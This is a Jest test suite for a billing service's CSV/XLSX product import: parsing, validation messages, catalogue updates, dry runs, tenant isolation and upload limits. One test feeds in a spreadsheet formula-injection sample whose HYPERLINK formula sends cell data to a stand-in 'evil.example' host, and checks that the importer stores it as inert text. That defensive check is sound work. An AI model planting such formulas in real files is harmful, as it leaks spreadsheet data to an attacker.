import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import { IMPORT_CHUNK_BYTES, type ProductView, type RpcCaller } from '@app/contracts';
import type { BillingTestApp } from '../../test/billing-test-app';
import { newTenant } from '../../test/billing-test-app';
import { importFile, sendFile, settledJob, startBillingWithImport } from './import-test-app';

const HEADER = 'Name,Type,Unit,Product Group,Currency,VAT rate,Price,Code';

describe('product import over RPC', () => {
  let billing: BillingTestApp;
  beforeAll(async () => {
    billing = await startBillingWithImport();
  });
  afterAll(async () => {
    await billing?.close();
  });

  const run = (
    caller: RpcCaller,
    file: Buffer | string,
    options: { filename?: string; dryRun?: boolean } = {},
  ) => importFile(billing.rpc, caller, file, options);

  const catalogue = async (caller: RpcCaller): Promise<ProductView[]> => {
    const items: ProductView[] = [];
    let cursor: string | undefined;
    do {
      const page = await billing.rpc.send(
        'billing.products.list',
        { includeInactive: true, limit: 200, cursor },
        caller,
      );
      items.push(...page.items);
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    return items;
  };
  const byName = async (caller: RpcCaller) =>
    Object.fromEntries((await catalogue(caller)).map((p) => [p.name, p]));

  const failure = (promise: Promise<unknown>) =>
    promise.then(
      () => {
        throw new Error('expected the call to fail');
      },
      (error: unknown) => error as { code: string; message: string },
    );

  const xlsx = async (rows: unknown[][], build?: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Produse');
    for (const row of rows) sheet.addRow(row);
    build?.(sheet);
    workbook.addWorksheet('Notes').addRow(['not imported']);
    return Buffer.from(await workbook.xlsx.writeBuffer());
  };

  describe('reading files', () => {
    it('creates the products of a comma CSV and counts them', async () => {
      const { admin } = newTenant();
      const job = await run(
        admin,
        [
          HEADER,
          'Consultanță IT,Service,h,Servicii,RON,21,150.5,CONS-1',
          'Cablu UTP,Product,m,Cabluri,EUR,11,2.3355,',
          'Licență,service,service,,RON,0,,LIC',
          '',
        ].join('\n'),
      );
      expect(job).toMatchObject({
        status: 'succeeded',
        phase: 'done',
        format: 'csv',
        total: 3,
        processed: 3,
        created: 3,
        updated: 0,
        errors: [],
        errorCount: 0,
      });
      const products = await byName(admin);
      expect(products['Consultanță IT']).toMatchObject({
        code: 'CONS-1',
        type: 'service',
        unit: 'h',
        group: 'Servicii',
        currency: 'RON',
        vatRate: '21',
        unitPrice: '150.50',
        active: true,
      });
      expect(products['Cablu UTP']).toMatchObject({
        code: null,
        currency: 'EUR',
        unitPrice: '2.3355',
        vatRate: '11',
      });
      expect(products['Licență']).toMatchObject({ code: 'LIC', group: null, unitPrice: null, vatRate: '0' });
    });

    it('reads a semicolon CSV with a BOM, Romanian headers in any case, quoted fields with semicolons and line breaks', async () => {
      const { admin } = newTenant();
      const text = [
        'DENUMIRE;tip;U.M.;Grupa;Monedă;Cotă TVA;Preț;Cod',
        '"Șurub; M8 ""inox""";Produs;BUC;Feronerie;ron;21%;"1,25";S-8',
        '"Montaj\nla client";Serviciu;H;Servicii;EUR;11;80;',
      ].join('\r\n');
      await billing.rpc.send('billing.settings.update', { units: ['pcs', 'h', 'buc'] }, admin);
      const job = await run(
        admin,
        Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]),
      );
      expect(job).toMatchObject({ status: 'succeeded', created: 2, errors: [] });
      const products = await byName(admin);
      expect(products['Șurub; M8 "inox"']).toMatchObject({
        type: 'product',
        unit: 'buc',
        currency: 'RON',
        vatRate: '21',
        unitPrice: '1.25',
        code: 'S-8',
      });
      expect(products['Montaj\nla client']).toMatchObject({ type: 'service', unit: 'h', currency: 'EUR' });
    });

    it('reads a comma CSV without a BOM, with quoted commas and doubled quotes', async () => {
      const { admin } = newTenant();
      const job = await run(
        admin,
        `${HEADER}\n"Bolt, M8 ""A2""",Product,pcs,"Hardware, small",RON,21,"0.10",B-8\n`,
      );
      expect(job).toMatchObject({ status: 'succeeded', created: 1 });
      expect((await byName(admin))['Bolt, M8 "A2"']).toMatchObject({
        group: 'Hardware, small',
        unitPrice: '0.10',
      });
    });

    it('stores a CSV cell that starts with = as the text it is, never evaluated', async () => {
      const { admin } = newTenant();
      const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
      const job = await run(
        admin,
        `${HEADER}\n"${formula.replace(/"/g, '""')}",Product,pcs,=1+1,RON,21,1,+SUM(A1)\n`,
      );
      expect(job).toMatchObject({ status: 'succeeded', created: 1 });
      const [product] = await catalogue(admin);
      expect(product).toMatchObject({ name: formula, group: '=1+1', code: '+SUM(A1)' });
    });

    it('reads the first sheet of an XLSX, stores a formula as its text, and numbers rows as the sheet does', async () => {
      const { admin } = newTenant();
      const file = await xlsx(
        [
          ['Price list, March'],
          [],
          ['Name', 'Type', 'Unit', 'Product Group', 'Currency', 'VAT rate', 'Price', 'Code'],
          ['Hosting', 'Service', 'service', 'Web', 'RON', 21, 12.5, 'H-1'],
          [null, 'Product', 'pcs', 'Docs', 'RON', 0.21, 3, 'DOC-1'],
          [],
          ['Domain', 'Service', 'service', 'Web', 'RON', 11, 45, 1001],
        ],
        (sheet) => {
          sheet.getCell('A5').value = {
            formula: 'HYPERLINK("https://example.com/docs","Docs")',
            result: 'Docs',
          };
          sheet.getCell('F5').numFmt = '0%';
        },
      );
      // The header is the first row with anything in it: a title above it is read as the header.
      const failed = await run(admin, file, { filename: 'products.xlsx' });
      expect(failed.status).toBe('failed');
      expect(failed.errors[0]).toMatchObject({ row: 1, column: 'Name' });

      const clean = await xlsx(
        [
          ['Name', 'Type', 'Unit', 'Product Group', 'Currency', 'VAT rate', 'Price', 'Code'],
          ['Hosting', 'Service', 'service', 'Web', 'RON', 21, 12.5, 'H-1'],
          [null, 'Product', 'pcs', 'Docs', 'RON', 0.21, 3, 'DOC-1'],
          [],
          ['Domain', 'Service', 'service', 'Web', 'RON', 11, 45, 1001],
          ['Broken', 'Service', 'crate', 'Web', 'USD', 11, 45, 'X'],
        ],
        (sheet) => {
          sheet.getCell('A3').value = {
            formula: 'HYPERLINK("https://example.com/docs","Docs")',
            result: 'Docs',
          };
          sheet.getCell('F3').numFmt = '0%';
        },
      );
      const report = await run(admin, clean, { filename: 'products.xlsx' });
      expect(report).toMatchObject({ status: 'failed', format: 'xlsx', total: 4, errorCount: 2 });
      expect(report.errors).toEqual([
        { row: 6, column: 'Unit', message: expect.stringContaining('"crate"') },
        { row: 6, column: 'Currency', message: expect.stringContaining('"USD"') },
      ]);

      const fixed = await xlsx(
        [
          ['Name', 'Type', 'Unit', 'Product Group', 'Currency', 'VAT rate', 'Price', 'Code'],
          ['Hosting', 'Service', 'service', 'Web', 'RON', 21, 12.5, 'H-1'],
          [null, 'Product', 'pcs', 'Docs', 'RON', 0.21, 3, 'DOC-1'],
          [],
          ['Domain', 'Service', 'service', 'Web', 'RON', 11, 45, 1001],
        ],
        (sheet) => {
          sheet.getCell('A3').value = {
            formula: 'HYPERLINK("https://example.com/docs","Docs")',
            result: 'Docs',
          };
          sheet.getCell('F3').numFmt = '0%';
        },
      );
      expect(await run(admin, fixed, { filename: 'products.xlsx' })).toMatchObject({
        status: 'succeeded',
        created: 3,
      });
      const products = await byName(admin);
      expect(products['=HYPERLINK("https://example.com/docs","Docs")']).toMatchObject({
        code: 'DOC-1',
        vatRate: '21',
        unitPrice: '3.00',
      });
      expect(products.Docs).toBeUndefined();
      expect(products.Hosting).toMatchObject({ unitPrice: '12.50', vatRate: '21' });
      expect(products.Domain).toMatchObject({ code: '1001', vatRate: '11' });
    });

    it('refuses what is not a UTF-8 CSV or an XLSX, and a broken quote, saying where', async () => {
      const { admin } = newTenant();
      const latin2 = Buffer.concat([
        Buffer.from(`${HEADER}\nConsultan`),
        Buffer.from([0xfe]),
        Buffer.from('a,Service,h,,RON,21,,\n'),
      ]);
      expect(await run(admin, latin2)).toMatchObject({
        status: 'failed',
        errors: [{ row: null, column: null, message: expect.stringContaining('UTF-8') }],
      });
      const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
      expect((await run(admin, xls, { filename: 'old.xls' })).errors[0].message).toMatch(/\.xls/);
      const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]);
      expect((await run(admin, zip, { filename: 'x.xlsx' })).errors[0].message).toMatch(
        /not a readable XLSX/,
      );
      const quote = `${HEADER}\nA,Product,pcs,,RON,21,1,\n"B,Product,pcs,,RON,21,1,\n`;
      const broken = await run(admin, quote);
      expect(broken.status).toBe('failed');
      expect(broken.errors).toHaveLength(1);
      expect(broken.errors[0].row).toBe(3);
      expect(await run(admin, '')).toMatchObject({
        status: 'failed',
        errors: [expect.objectContaining({ row: null })],
      });
      expect(await run(admin, `${HEADER}\n\n`)).toMatchObject({
        status: 'failed',
        errors: [{ row: null, column: null, message: 'The file has a header row but no products' }],
      });
      expect(await catalogue(admin)).toEqual([]);
    });
  });

  describe('validation', () => {
    it('names every missing required column on the header row, in English or as the file spells it', async () => {
      const { admin } = newTenant();
      const job = await run(admin, 'Denumire;Tip;Pret\nA;Produs;1\n');
      expect(job.status).toBe('failed');
      expect(job.errors).toEqual(
        ['Unit', 'Product Group', 'Currency', 'VAT rate'].map((column) => ({
          row: 1,
          column,
          message: expect.stringContaining(`required column ${column} is missing`),
        })),
      );
    });

    it('reports every problem of every row, with its spreadsheet row and column, and writes nothing', async () => {
      const { admin } = newTenant();
      const job = await run(
        admin,
        [
          'Name,Type,Unit,Product Group,Currency,VAT rate,Price,Code',
          'Good,Product,pcs,,RON,21,10,G-1', // row 2
          ',Goods,crate,,USD,19,-1,', // row 3: everything wrong
          'Priced,Service,h,,EUR,11,12.34567,P-1', // row 4: too many decimals
          'Thousands,Service,h,,EUR,11,"1,234.50",', // row 5: thousands separator
          'GOOD,Product,pcs,,RON,21,1,X-1', // row 6: name again (case)
          'Other,Product,pcs,,RON,21,1,g-1', // row 7: code again (case)
          'Shifted,Product,pcs,,RON,21,1,S,extra', // row 8: a cell past the header
          `${'L'.repeat(201)},Product,pcs,,RON,21,1,`, // row 9: name too long
          'Words,Product,pcs,,RON,21,ten,', // row 10
        ].join('\n'),
      );
      expect(job).toMatchObject({ status: 'failed', created: 0, updated: 0, total: 9, processed: 9 });
      expect(job.errors.map((e) => [e.row, e.column])).toEqual([
        [3, 'Name'],
        [3, 'Type'],
        [3, 'Unit'],
        [3, 'Currency'],
        [3, 'VAT rate'],
        [3, 'Price'],
        [4, 'Price'],
        [5, 'Price'],
        [6, 'Name'],
        [7, 'Code'],
        [8, null],
        [9, 'Name'],
        [10, 'Price'],
      ]);
      expect(job.errorCount).toBe(13);
      expect(job.message).toBe('13 problems were found; nothing was written');
      const messages = job.errors.map((e) => e.message);
      expect(messages).toEqual(
        expect.arrayContaining([
          'Name is required',
          'Type must be Product or Service, not "Goods"',
          expect.stringMatching(/^unit "crate" is not one of the units in settings/),
          expect.stringMatching(/^currency "USD" is not enabled in settings/),
          expect.stringMatching(/^VAT rate "19" is not allowed/),
          expect.stringMatching(/^Price "-1" is not a valid non-negative amount/),
          'the name "GOOD" is already in row 2 of the file (names ignore case)',
          'the code "g-1" is already in row 2 of the file (codes ignore case)',
          'Name is longer than 200 characters',
        ]),
      );
      expect(await catalogue(admin)).toEqual([]);
    });

    it('only allows 0 % to a tenant that is not VAT registered', async () => {
      const { admin } = newTenant();
      await billing.rpc.send('billing.settings.update', { vatRegistered: false }, admin);
      const job = await run(admin, `${HEADER}\nA,Product,pcs,,RON,21,1,\nB,Product,pcs,,RON,0,1,\n`);
      expect(job.errors).toEqual([
        { row: 2, column: 'VAT rate', message: expect.stringContaining('"21" is not allowed') },
      ]);
    });

    it('writes nothing when only the last of many rows is wrong', async () => {
      const { admin } = newTenant();
      const rows = Array.from({ length: 5000 }, (_, i) => `Item ${i},Product,pcs,G,RON,21,${i}.5,C-${i}`);
      rows.push('Last,Product,pcs,G,RON,21,-5,');
      const job = await run(admin, [HEADER, ...rows].join('\n'));
      expect(job).toMatchObject({ status: 'failed', total: 5001, processed: 5001, created: 0, updated: 0 });
      expect(job.errors).toEqual([{ row: 5002, column: 'Price', message: expect.stringContaining('"-5"') }]);
      expect(await catalogue(admin)).toEqual([]);
    });

    it('lists at most 1,000 problems and counts them all', async () => {
      const { admin } = newTenant();
      const rows = Array.from({ length: 1500 }, (_, i) => `Item ${i},Thing,pcs,,RON,21,1,`);
      const job = await run(admin, [HEADER, ...rows].join('\n'));
      expect(job.errors).toHaveLength(1000);
      expect(job.errorCount).toBe(1500);
      expect(job.errors[999].row).toBe(1001);
      expect(job.message).toMatch(/only the first 1000 are listed/);
    });
  });

  describe('writing', () => {
    it('updates by code first, then by name ignoring case, creates the rest, in one go', async () => {
      const { admin } = newTenant();
      const create = (body: Record<string, unknown>) =>
        billing.rpc.send(
          'billing.products.create',
          { type: 'product', unit: 'pcs', ...body } as never,
          admin,
        );
      const alpha = await create({ name: 'Alpha', code: 'A-1', unitPrice: '5' });
      const beta = await create({ name: 'Beta', unitPrice: '7.5' });
      const gone = await create({ name: 'Retired', code: 'R-1' });
      await billing.rpc.send('billing.products.deactivate', { id: gone.id }, admin);

      const job = await run(
        admin,
        [
          HEADER,
          'Alpha renamed,Service,h,Svc,EUR,11,10,a-1', // by code (case ignored): renamed
          'BETA,Product,kg,Goods,RON,0,,B-9', // by name: gets a code, keeps its price
          'retired,Product,pcs,,RON,21,3,', // by name: reactivated
          'Gamma,Product,pcs,,RON,21,4,G-1', // new
        ].join('\n'),
      );
      expect(job).toMatchObject({ status: 'succeeded', created: 1, updated: 3 });
      const products = await byName(admin);
      expect(products['Alpha renamed']).toMatchObject({
        id: alpha.id,
        code: 'a-1', // as the file spells it
        type: 'service',
        unit: 'h',
        group: 'Svc',
        currency: 'EUR',
        vatRate: '11',
        unitPrice: '10.00',
      });
      expect(products.BETA).toMatchObject({
        id: beta.id,
        code: 'B-9',
        unit: 'kg',
        unitPrice: '7.50',
        vatRate: '0',
      });
      expect(products.retired).toMatchObject({ id: gone.id, active: true, code: 'R-1', unitPrice: '3.00' });
      expect(products.Gamma).toMatchObject({ code: 'G-1', unitPrice: '4.00' });
      expect(Object.keys(products)).toHaveLength(4);
    });

    it('refuses to rename a product onto another product’s name, or to update one product twice', async () => {
      const { admin } = newTenant();
      const create = (body: Record<string, unknown>) =>
        billing.rpc.send(
          'billing.products.create',
          { type: 'product', unit: 'pcs', ...body } as never,
          admin,
        );
      await create({ name: 'Alpha', code: 'A-1' });
      await create({ name: 'Beta' });
      const job = await run(
        admin,
        [
          HEADER,
          'beta,Product,pcs,,RON,21,1,A-1',
          'Gamma,Product,pcs,,RON,21,1,',
          'Alpha,Product,pcs,,RON,21,1,',
        ].join('\n'),
      );
      expect(job.status).toBe('failed');
      expect(job.errors).toEqual([
        {
          row: 2,
          column: 'Name',
          message: 'the name "beta" belongs to another product in the catalogue ("Beta")',
        },
        {
          row: 4,
          column: 'Name',
          message: expect.stringMatching(/this row and row 2 both match the catalogue product "Alpha"/),
        },
      ]);
      expect((await catalogue(admin)).map((p) => p.name).sort()).toEqual(['Alpha', 'Beta']);
    });

    it('a dry run checks and counts, and writes and publishes nothing', async () => {
      const { admin } = newTenant();
      await billing.rpc.send(
        'billing.products.create',
        { name: 'Kept', type: 'product', unit: 'pcs', unitPrice: '1' },
        admin,
      );
      const job = await run(admin, `${HEADER}\nKept,Product,pcs,,RON,21,99,\nNew,Product,pcs,,RON,21,1,\n`, {
        dryRun: true,
      });
      expect(job).toMatchObject({ status: 'succeeded', dryRun: true, created: 1, updated: 1 });
      expect(job.message).toMatch(/Nothing was written/);
      const products = await catalogue(admin);
      expect(products.map((p) => [p.name, p.unitPrice])).toEqual([['Kept', '1.00']]);
      expect(await importEvents(admin.tenantId)).toEqual([]);
    });

    it('records billing.products.imported in the outbox with the job id and counts', async () => {
      const { admin } = newTenant();
      const job = await run(admin, `${HEADER}\nOne,Product,pcs,,RON,21,1,\nTwo,Product,pcs,,RON,21,2,\n`);
      expect(await importEvents(admin.tenantId)).toEqual([
        expect.objectContaining({
          type: 'billing.products.imported',
          version: 1,
          tenantId: admin.tenantId,
          data: { importId: job.id, created: 2, updated: 0 },
        }),
      ]);
      // Nothing of the upload stays behind once the job is done.
      const staged = await billing.dataSource.query(
        `SELECT (SELECT count(*) FROM billing.import_chunks WHERE job_id = $1)::int AS chunks,
                (SELECT count(*) FROM billing.import_rows WHERE job_id = $1)::int AS rows`,
        [job.id],
      );
      expect(staged).toEqual([{ chunks: 0, rows: 0 }]);
    });

    const importEvents = async (tenantId: string) =>
      (
        await billing.dataSource.query<Array<{ envelope: { type: string } }>>(
          `SELECT envelope FROM billing.outbox WHERE tenant_id = $1 AND type = 'billing.products.imported'`,
          [tenantId],
        )
      ).map((row) => row.envelope);
  });

  describe('access and the job itself', () => {
    it('answers FORBIDDEN to a member on every import call', async () => {
      const { admin, member } = newTenant();
      const started = await sendFile(
        billing.rpc,
        admin,
        Buffer.from(`${HEADER}\nA,Product,pcs,,RON,21,1,\n`),
      );
      for (const call of [
        billing.rpc.send('billing.imports.start', { filename: 'a.csv', dryRun: false }, member),
        billing.rpc.send('billing.imports.chunk', { id: started.id, seq: 1, data: 'QQ==' }, member),
        billing.rpc.send('billing.imports.finish', { id: started.id }, member),
        billing.rpc.send('billing.imports.abort', { id: started.id, reason: 'x' }, member),
        billing.rpc.send('billing.imports.get', { id: started.id }, member),
      ])
        expect(await failure(call)).toMatchObject({ code: 'FORBIDDEN' });
      await settledJob(billing.rpc, admin, started.id);
    });

    it('keeps tenants apart: another tenant’s import is not found, and an import only touches its own catalogue', async () => {
      const a = newTenant().admin;
      const b = newTenant().admin;
      await run(a, `${HEADER}\nShared,Product,pcs,,RON,21,1,SH-1\n`);
      const jobB = await run(b, `${HEADER}\nShared,Service,h,,EUR,11,9,SH-1\n`);
      expect(jobB).toMatchObject({ status: 'succeeded', created: 1, updated: 0 });
      expect((await catalogue(a)).map((p) => [p.name, p.type, p.unitPrice])).toEqual([
        ['Shared', 'product', '1.00'],
      ]);
      expect((await catalogue(b)).map((p) => [p.name, p.type, p.unitPrice])).toEqual([
        ['Shared', 'service', '9.00'],
      ]);

      const open = await billing.rpc.send('billing.imports.start', { filename: 'a.csv', dryRun: false }, a);
      for (const call of [
        billing.rpc.send('billing.imports.get', { id: jobB.id }, a),
        billing.rpc.send('billing.imports.chunk', { id: open.id, seq: 0, data: 'QQ==' }, b),
        billing.rpc.send('billing.imports.finish', { id: open.id }, b),
        billing.rpc.send('billing.imports.abort', { id: open.id, reason: 'x' }, b),
      ])
        expect(await failure(call)).toMatchObject({ code: 'NOT_FOUND' });
      await billing.rpc.send('billing.imports.abort', { id: open.id, reason: 'test over' }, a);
    });

    it('refuses chunks out of order, and a file over 20 MB (PAYLOAD_TOO_LARGE), failing that job', async () => {
      const { admin } = newTenant();
      const { id } = await billing.rpc.send(
        'billing.imports.start',
        { filename: 'big.csv', dryRun: false },
        admin,
      );
      expect(
        await failure(billing.rpc.send('billing.imports.chunk', { id, seq: 1, data: 'QQ==' }, admin)),
      ).toMatchObject({ code: 'CONFLICT' });
      const chunk = Buffer.alloc(IMPORT_CHUNK_BYTES, 'a').toString('base64');
      for (let seq = 0; seq < 40; seq++)
        await billing.rpc.send('billing.imports.chunk', { id, seq, data: chunk }, admin);
      expect(
        await failure(billing.rpc.send('billing.imports.chunk', { id, seq: 40, data: 'QUFB' }, admin)),
      ).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' });
      const job = await billing.rpc.send('billing.imports.get', { id }, admin);
      expect(job).toMatchObject({ status: 'failed', message: expect.stringContaining('20 MB') });
      const [{ count }] = await billing.dataSource.query(
        'SELECT count(*)::int AS count FROM billing.import_chunks WHERE job_id = $1',
        [id],
      );
      expect(count).toBe(0);
    });

    it('reports a job abandoned by a dead instance (stale heartbeat) as failed', async () => {
      const { admin } = newTenant();
      const { id } = await billing.rpc.send(
        'billing.imports.start',
        { filename: 'a.csv', dryRun: false },
        admin,
      );
      await billing.rpc.send(
        'billing.imports.chunk',
        { id, seq: 0, data: Buffer.from(HEADER).toString('base64') },
        admin,
      );
      expect(await billing.rpc.send('billing.imports.get', { id }, admin)).toMatchObject({
        status: 'running',
      });
      // What a crash looks like from the outside: nobody touches the job any more.
      await billing.dataSource.query(
        `UPDATE billing.import_jobs SET heartbeat_at = now() - interval '10 minutes' WHERE id = $1`,
        [id],
      );
      const job = await billing.rpc.send('billing.imports.get', { id }, admin);
      expect(job).toMatchObject({ status: 'failed', message: expect.stringContaining('abandoned') });
      expect(await failure(billing.rpc.send('billing.imports.finish', { id }, admin))).toMatchObject({
        code: 'CONFLICT',
      });
    });

    it('answers NOT_FOUND for an unknown import', async () => {
      const { admin } = newTenant();
      expect(
        await failure(billing.rpc.send('billing.imports.get', { id: randomUUID() }, admin)),
      ).toMatchObject({
        code: 'NOT_FOUND',
      });
    });
  });
});
